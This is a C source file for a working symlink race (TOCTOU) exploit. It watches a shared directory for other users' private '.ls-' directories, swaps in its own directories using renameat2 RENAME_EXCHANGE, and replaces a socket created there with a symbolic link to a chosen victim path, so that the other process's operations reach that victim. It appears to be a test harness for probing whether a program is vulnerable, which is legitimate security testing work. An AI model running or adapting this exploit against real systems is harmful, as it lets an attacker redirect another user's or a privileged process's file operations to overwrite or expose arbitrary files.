// Puts directories of its own in place of the private directories that appear in a directory, over and over, and a
// symbolic link to a victim in place of what is made in them, so that what is done by a path reaches the victim.
// Arguments: the directory, the victim. Prints READY, works until its input ends, prints how many it has exchanged.

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *victim;

static int exchanged;

static void make_trap(const char *name)
{
	char link[64];
	mkdir(name, 0);
	chmod(name, 0777);
	snprintf(link, sizeof link, "%s/link", name);
	symlink(victim, link);
}

static int input_has_ended(void)
{
	struct pollfd input = { .fd = 0, .events = POLLIN };
	return poll(&input, 1, 0) > 0;
}

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static void spring(const char *name)
{
	char socket[300], link[300];
	struct stat found;
	snprintf(socket, sizeof socket, "%s/s", name);
	snprintf(link, sizeof link, "%s/link", name);
	for (double end = now() + 0.01; now() < end && !input_has_ended();) {
		if (lstat(name, &found) != 0) {
			return;
		}
		if (lstat(socket, &found) == 0) {
			rename(link, socket);
			return;
		}
	}
}

static void exchange(void)
{
	char trap[64];
	struct dirent *entry;
	DIR *directory = opendir(".");
	snprintf(trap, sizeof trap, "trap%d", exchanged);
	while ((entry = readdir(directory)) != NULL) {
		struct stat found;
		if (strncmp(entry->d_name, ".ls-", 4) != 0 || lstat(entry->d_name, &found) != 0 || found.st_uid == getuid()) {
			continue;
		}
		if (renameat2(AT_FDCWD, trap, AT_FDCWD, entry->d_name, RENAME_EXCHANGE) == 0) {
			spring(entry->d_name);
			exchanged++;
			snprintf(trap, sizeof trap, "trap%d", exchanged);
			make_trap(trap);
		}
	}
	closedir(directory);
}

int main(int count, char **arguments)
{
	if (count != 3 || chdir(arguments[1]) != 0) {
		return 2;
	}
	victim = arguments[2];
	make_trap("trap0");
	printf("READY\n");
	fflush(stdout);
	while (!input_has_ended()) {
		exchange();
	}
	printf("%d\n", exchanged);
	return 0;
}
